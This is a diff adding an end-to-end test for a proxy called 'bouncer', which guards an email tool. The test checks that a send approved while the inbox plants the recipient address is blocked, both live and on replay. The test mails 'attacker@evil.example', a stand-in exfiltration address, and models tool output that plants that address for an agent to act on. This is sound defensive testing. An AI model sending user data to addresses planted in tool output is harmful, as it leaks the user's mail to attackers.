@@ -1,0 +1,100 @@
+/**
+ * Calls the live proxy blocked for a reason the session file would not otherwise show replay as
+ * blocked, with nothing applied that live did not apply (README "bouncer replay": stricter, never
+ * laxer; SPEC §3.6, §5.9). Each test records a real session — `bouncer run --record` over real stdio
+ * in front of the fixture mailbox, driven line by line — then runs `bouncer replay --json`.
+ */
+
+import { describe, expect, test } from "bun:test";
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { BUN, bouncerCommand, initializeRequest, startLines, tempHome } from "./support/harness.ts";
+import { MAILBOX, replayJson } from "./support/record-mailbox.ts";
+
+const E2E_TIMEOUT = 120_000;
+const POLICY = `
+send_email:
+  exfiltrating: true
+  sink_params: [to]
+  trusted_destinations: [boss@corp.example]
+`;
+/** The address the fixture's `read_inbox` plants in its output. */
+const PLANTED = "attacker@evil.example";
+
+/**
+ * A `tools/call` request line.
+ * @param id - The request id.
+ * @param name - The tool.
+ * @param args - Its arguments.
+ * @returns The message.
+ */
+function call(id: number, name: string, args: Record<string, unknown>): unknown {
+  return { jsonrpc: "2.0", id, method: "tools/call", params: { name, arguments: args } };
+}
+
+/**
+ * Whether an answer is Bouncer's blocked result.
+ * @param answer - The client's answer line.
+ * @returns True when blocked.
+ */
+function isBlocked(answer: Record<string, unknown>): boolean {
+  return JSON.stringify(answer.result).includes("[bouncer blocked]");
+}
+
+describe("bouncer run --record then bouncer replay (calls blocked live)", () => {
+  test(
+    "bouncer replay blocks an approval that was stale when it came, and remembers nothing of it",
+    async () => {
+      const home = tempHome();
+      const policy = join(home, "bouncer.yaml");
+      const session = join(home, "session.jsonl");
+      writeFileSync(policy, POLICY);
+      const { command, args } = bouncerCommand("cli", [
+        ...["--upstream-name", "mail", "--policy", policy, "--record", session, "--human-min-ms", "0"],
+        ...["--", BUN, MAILBOX],
+      ]);
+      const live = startLines(command, args, { BOUNCER_HOME: home });
+      live.send(initializeRequest(0, { elicitation: {} }));
+      await live.next((m) => m.id === 0, "initialize answered");
+      live.send({ jsonrpc: "2.0", method: "notifications/initialized" });
+      const mail = { to: PLANTED, subject: "Invoice", body: "Attached." };
+      live.send(call(1, "send_email", mail));
+      const question = await live.next((m) => m.method === "elicitation/create", "the question");
+      // While the question is open, the inbox plants the very address asked about.
+      live.send(call(2, "read_inbox", {}));
+      expect(JSON.stringify(await live.next((m) => m.id === 2, "read_inbox answered"))).toContain(PLANTED);
+      live.send({
+        jsonrpc: "2.0",
+        id: question.id,
+        result: { action: "accept", content: { remember: true } },
+      });
+      const first = await live.next((m) => m.id === 1 && m.method === undefined, "send 1 answered");
+      live.send(call(3, "send_email", mail));
+      const again = await live.next((m) => m.id === 3 && m.method === undefined, "send 3 answered");
+      live.child.stdin?.end();
+      await live.exited;
+      expect([isBlocked(first), isBlocked(again)]).toEqual([true, true]);
+
+      const replay = replayJson(session, policy, { BOUNCER_HOME: home });
+      expect(replay.stderr).toBe("");
+      expect(replay.rows.map((row) => [row.seq, row.tool, row.verdict, row.outcome])).toEqual([
+        [1, "send_email", "ask", "blocked"],
+        [2, "read_inbox", "allow", "forwarded"],
+        [3, "send_email", "deny", "blocked"],
+      ]);
+      const stale = readFileSync(session, "utf8")
+        .split("\n")
+        .filter((line) => line.includes('"seq":1,'))
+        .map((line) => JSON.parse(line) as Record<string, unknown>);
+      expect(stale.map(({ ask, remember, live_blocked }) => [ask, remember, live_blocked])).toEqual([
+        ["approved", false, "stale_ask"],
+      ]);
+      expect(replay.rows.map((row) => (row as { live_blocked?: string }).live_blocked)).toEqual([
+        "stale_ask",
+        undefined,
+        undefined,
+      ]);
+    },
+    E2E_TIMEOUT,
+  );
+});
